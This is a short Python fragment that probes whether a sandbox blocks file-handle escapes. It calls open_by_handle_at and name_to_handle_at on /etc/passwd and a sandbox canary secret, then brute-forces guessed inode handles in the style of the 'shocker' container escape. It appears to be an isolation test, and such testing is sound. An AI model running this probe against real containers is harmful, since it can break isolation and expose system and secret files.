import struct

for path in (b"/", b".", b"/etc/passwd", b"/tmp/sandbox_canary/secret.txt", b""):
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 160)
    attempt(f"name_to_handle_at {path}", lambda: call(303, -100, path, handle, ctypes.byref(ctypes.c_int()), 0x1000))
    attempt(f"open_by_handle_at {path}", lambda: call(304, -100, handle, os.O_RDONLY))
for number in range(2, 40):
    handle = ctypes.create_string_buffer(struct.pack("=IiIi", 8, 1, number, 0), 160)
    for descriptor in (-100, 0, 1, 2):
        attempt("open_by_handle_at of a guess", lambda: call(304, descriptor, handle, os.O_RDONLY))
report()
